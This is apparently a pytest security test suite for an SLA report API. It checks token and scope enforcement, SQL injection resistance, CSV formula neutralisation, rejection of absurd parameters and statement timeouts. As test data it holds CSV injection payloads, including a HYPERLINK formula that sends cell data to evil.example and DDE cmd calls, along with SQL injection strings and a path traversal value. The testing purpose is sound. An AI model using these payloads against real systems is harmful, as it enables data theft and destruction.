"""The report API under hostile requests, as a real `report-api serve` process: tokens on every
report route, no SQL injection through sort or filters, CSV cells neutralised, absurd parameters
answered with a 400 (never a 500), and a query past the statement timeout cut off with a 503.
(A schemathesis run over the whole OpenAPI document is tests/integration/report_api.)"""

from __future__ import annotations

import csv
import io
import time
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

import httpx
import pytest

from report_api.testing import produce, sla_event
from sla_devtools.infra import Infra
from tests.reliability.support.harness import LEDGER
from tests.reliability.support.procs import ServiceProcess
from tests.reliability.support.reportapi import AUTH, TOKEN, log_rows, report_api
from tests.support.kafka import create_topics

ADMIN_TOKEN = "admin-token-0123456789"
ADMIN = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
TODAY = datetime.now(UTC).date()
RANGE = {"from": str(TODAY - timedelta(days=2)), "to": str(TODAY + timedelta(days=2))}
OPEN_ROUTES = {"/healthz", "/readyz", "/metrics", "/openapi.json", "/docs", "/redoc"}
HOSTILE = {
    "department": '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "agent": "+1+cmd|' /C calc'!A0",
    "requester": "@SUM(1+1)*cmd|' /C calc'!A0",
    "ticket": "-2+3",
}
TEXT_COLUMNS = ("requester", "ticket", "department", "agent", "level", "metric")
INJECTIONS = (
    "x' OR '1'='1",
    "x'; DROP TABLE sla_timers; --",
    "support' UNION SELECT NULL--",
    "\\'; SELECT pg_sleep(10); --",
)


@dataclass
class Api:
    process: ServiceProcess
    client: httpx.AsyncClient
    timers: int


@pytest.fixture(scope="module")
async def api(infra: Infra, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Api]:
    topic = f"sla-security-{time.time_ns()}"
    await create_topics(infra.bootstrap_servers, topic, partitions=3)
    start = datetime.now(UTC) - timedelta(hours=2)
    events = []
    for i in range(30):
        ticket = HOSTILE["ticket"] if i == 0 else f"sec-{i}"
        at = start + timedelta(minutes=i)
        events.append(
            sla_event(
                "sla.started",
                ticket,
                time=at,
                started=at,
                department=HOSTILE["department"] if i % 3 == 0 else "support",
                agent=HOSTILE["agent"] if i % 4 == 0 else "agent-1",
                requester=HOSTILE["requester"] if i % 5 == 0 else "kari@example.no",
            )
        )
        if i % 2:
            events.append(
                sla_event(
                    "sla.fulfilled",
                    ticket,
                    time=at + timedelta(minutes=5),
                    started=at,
                    department=HOSTILE["department"] if i % 3 == 0 else "support",
                )
            )
    await produce(infra.bootstrap_servers, topic, events)
    log = tmp_path_factory.mktemp("security") / "report-api.log"
    process = await report_api(
        infra.database_url,
        infra.bootstrap_servers,
        topic,
        log,
        api_tokens=f"{TOKEN},{ADMIN_TOKEN}:policies:admin",
    )
    process.start()
    client = httpx.AsyncClient(base_url=process.url, timeout=30)
    try:
        await process.wait_status("/readyz", 200, within=60)
        deadline = time.monotonic() + 60
        while len(await log_rows(process)) < 30:
            assert time.monotonic() < deadline, process.tail()
            await asyncio_sleep(0.2)
        yield Api(process, client, 30)
    finally:
        await client.aclose()
        if process.alive:
            process.kill()
    assert "Traceback" not in log.read_text(), log.read_text()[-3000:]


async def asyncio_sleep(seconds: float) -> None:
    import asyncio

    await asyncio.sleep(seconds)


def count(kind: str, n: int = 1) -> None:
    LEDGER.fault(kind, n)


async def test_every_route_refuses_a_missing_or_wrong_token_and_a_token_without_its_scope(
    api: Api,
) -> None:
    paths = (await api.client.get("/openapi.json")).json()["paths"]
    guarded = [p for p in paths if p not in OPEN_ROUTES and p.startswith("/v1")]
    assert len(guarded) >= 5, guarded
    bad_headers: list[dict[str, str]] = [
        {},
        {"Authorization": "Bearer wrong-token-0123456789"},
        {"Authorization": "Bearer"},
        {"Authorization": AUTH["Authorization"].replace("Bearer", "Basic")},
        {"Authorization": AUTH["Authorization"] + "x"},
        {"Authorization": AUTH["Authorization"][:-1]},
    ]
    for path in guarded:
        url = path.replace("{ticket_id}", "sec-1").replace("{version}", "sha256:0")
        url = url.replace("{job_id}", "sec-1")
        admin_only = path.startswith(("/v1/policies", "/v1/what-if"))
        right, wrong = (ADMIN, AUTH) if admin_only else (AUTH, ADMIN)
        # POST /v1/what-if: the token is checked before the body, which {} fails (400)
        method = "POST" if "post" in paths[path] else "GET"
        body = {} if method == "POST" else None
        for headers in bad_headers:
            for query in ({}, {"format": "csv"}):
                response = await api.client.request(
                    method, url, headers=headers, params=query, json=body
                )
                assert response.status_code == 401, (url, headers, response.text)
                assert "sec-1" not in response.text and "support" not in response.text
                count("request without a valid token")
        params = RANGE if "compliance" in url or "ownership" in url else {}
        refused = await api.client.request(method, url, headers=wrong, params=params, json=body)
        assert refused.status_code == 403, (url, refused.text)
        assert refused.headers["content-type"].startswith("application/problem+json")
        assert ("policies:admin" if admin_only else "reports:read") in refused.json()["detail"]
        assert "sec-1" not in refused.text and "support" not in refused.text
        count("request with a token without the route's scope")
        allowed = await api.client.request(method, url, headers=right, params=params, json=body)
        expected = (
            400 if method == "POST" else 404 if "{version}" in path or "{job_id}" in path else 200
        )
        assert allowed.status_code == expected, (url, allowed.text)


async def test_sort_and_filters_cannot_inject_sql(api: Api) -> None:
    sorts = [
        "started;DROP TABLE x",
        "-started,1",
        "(SELECT 1)",
        "started DESC; --",
        "1",
        "ticket'--",
        "pg_sleep(10)",
    ]
    for sort in sorts:
        started = time.monotonic()
        response = await api.client.get("/v1/reports/log", headers=AUTH, params={"sort": sort})
        assert response.status_code == 400, (sort, response.text)
        assert response.headers["content-type"].startswith("application/problem+json")
        assert time.monotonic() - started < 5
        count("injection attempt")
    routes = ("/v1/reports/log", "/v1/reports/compliance")
    for route in routes:
        for name in ("department", "agent", "level", "metric"):
            for value in INJECTIONS:
                started = time.monotonic()
                params = {name: value, **(RANGE if "compliance" in route else {})}
                response = await api.client.get(route, headers=AUTH, params=params)
                assert response.status_code in {200, 400}, (route, name, value, response.text)
                assert time.monotonic() - started < 5  # no pg_sleep ran
                if response.status_code == 200 and route.endswith("/log"):
                    assert response.json()["rows"] == [], (name, value)  # matched literally
                count("injection attempt")
        for group_by in ("date;DROP TABLE x", "department,(SELECT 1)", "agent--"):
            response = await api.client.get(
                "/v1/reports/compliance", headers=AUTH, params={"group_by": group_by, **RANGE}
            )
            assert response.status_code == 400, (group_by, response.text)
            count("injection attempt")
    # a hostile value is still matched as the literal it is, and the tables are all there
    response = await api.client.get(
        "/v1/reports/log", headers=AUTH, params={"department": HOSTILE["department"]}
    )
    assert response.status_code == 200
    assert {r["department"] for r in response.json()["rows"]} == {HOSTILE["department"]}
    assert len(await log_rows(api.process)) == api.timers


async def test_csv_cells_are_neutralised(api: Api) -> None:
    response = await api.client.get("/v1/reports/log", headers=AUTH, params={"format": "csv"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == api.timers
    seen = set()
    for row in rows:
        for column in TEXT_COLUMNS:
            cell = row[column]
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
            if cell.startswith("'"):
                seen.add(cell[1:])
    assert set(HOSTILE.values()) <= seen  # each one there, as text
    compliance = await api.client.get(
        "/v1/reports/compliance",
        headers=AUTH,
        params={"format": "csv", "group_by": "department,agent", **RANGE},
    )
    assert compliance.status_code == 200
    for row in csv.reader(io.StringIO(compliance.text)):
        for cell in row:
            if cell and not cell.lstrip("-").replace(".", "", 1).isdigit():
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


ABSURD: list[tuple[str, dict[str, str]]] = [
    ("/v1/reports/log", {"limit": "0"}),
    ("/v1/reports/log", {"limit": "-1"}),
    ("/v1/reports/log", {"limit": "1000000000000000000000"}),
    ("/v1/reports/log", {"limit": "ten"}),
    ("/v1/reports/log", {"cursor": "garbage"}),
    ("/v1/reports/log", {"cursor": "A" * 5000}),
    ("/v1/reports/log", {"cursor": "eyJ4IjoxfQ"}),
    ("/v1/reports/log", {"sort": "-" * 10000}),
    ("/v1/reports/log", {"state": "exploded"}),
    ("/v1/reports/log", {"from": "yesterday"}),
    ("/v1/reports/log", {"from": "9999-99-99"}),
    ("/v1/reports/log", {"from": "0001-01-01", "to": "9999-12-31"}),
    ("/v1/reports/log", {"from": "2026-02-01", "to": "2026-01-01"}),
    ("/v1/reports/log", {"from": "1" * 10000}),
    ("/v1/reports/log", {"tz": "Mars/Olympus_Mons"}),
    ("/v1/reports/log", {"tz": "../../etc/passwd"}),
    ("/v1/reports/log", {"tz": "x" * 10000}),
    ("/v1/reports/log", {"department": "x" * 20_000}),
    ("/v1/reports/compliance", {"group_by": "date," * 2000}),
    ("/v1/reports/compliance", {"group_by": "planet"}),
    ("/v1/reports/compliance", {"from": "2026-01-01T00:00:00+99:00"}),
    ("/v1/reports/compliance", {"tz": "\x00"}),
    ("/v1/reports/compliance", {"format": "xlsx"}),
]


@pytest.mark.parametrize(("route", "params"), ABSURD, ids=[str(i) for i in range(len(ABSURD))])
async def test_absurd_parameters_get_a_400_not_a_500(
    api: Api, route: str, params: dict[str, str]
) -> None:
    started = time.monotonic()
    if "compliance" in route:
        params = {**RANGE, **params}
    response = await api.client.get(route, headers=AUTH, params=params)
    assert response.status_code in {400, 414, 431}, (route, params, response.text[:300])
    assert time.monotonic() - started < 5
    if response.status_code == 400:
        assert response.headers["content-type"].startswith("application/problem+json")
    count("absurd parameter")


async def test_a_query_past_the_statement_timeout_is_cut_off_with_a_503(
    api: Api, infra: Infra, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """The same database, served with a 1 ms statement timeout: every report query is cut off
    by PostgreSQL; the answer is a 503 problem, quickly, and the process lives on."""
    env = api.process.env
    slow = await report_api(
        infra.database_url,
        infra.bootstrap_servers,
        env["SLA_EVENTS_TOPIC"],
        tmp_path_factory.mktemp("timeout") / "report-api.log",
        statement_timeout_ms=1,
        export_statement_timeout_ms=1,
        projection_enabled="false",
    )
    slow.env["SLA_DATABASE_URL"] = env["SLA_DATABASE_URL"]
    slow.start()
    try:
        await slow.wait_status("/healthz", 200, within=60)
        async with httpx.AsyncClient(base_url=slow.url, timeout=30, headers=AUTH) as client:
            for route, params in [
                ("/v1/reports/log", {}),
                ("/v1/reports/log", {"limit": "1000", "sort": "sla"}),
                (
                    "/v1/reports/compliance",
                    {"group_by": "date,department,agent,level,metric", **RANGE},
                ),
                ("/v1/tickets/sec-1/sla", {}),
            ]:
                started = time.monotonic()
                response = await client.get(route, params=params)
                assert response.status_code == 503, (route, response.status_code, response.text)
                assert time.monotonic() - started < 5
                count("statement timeout")
        assert slow.alive
    finally:
        slow.kill()
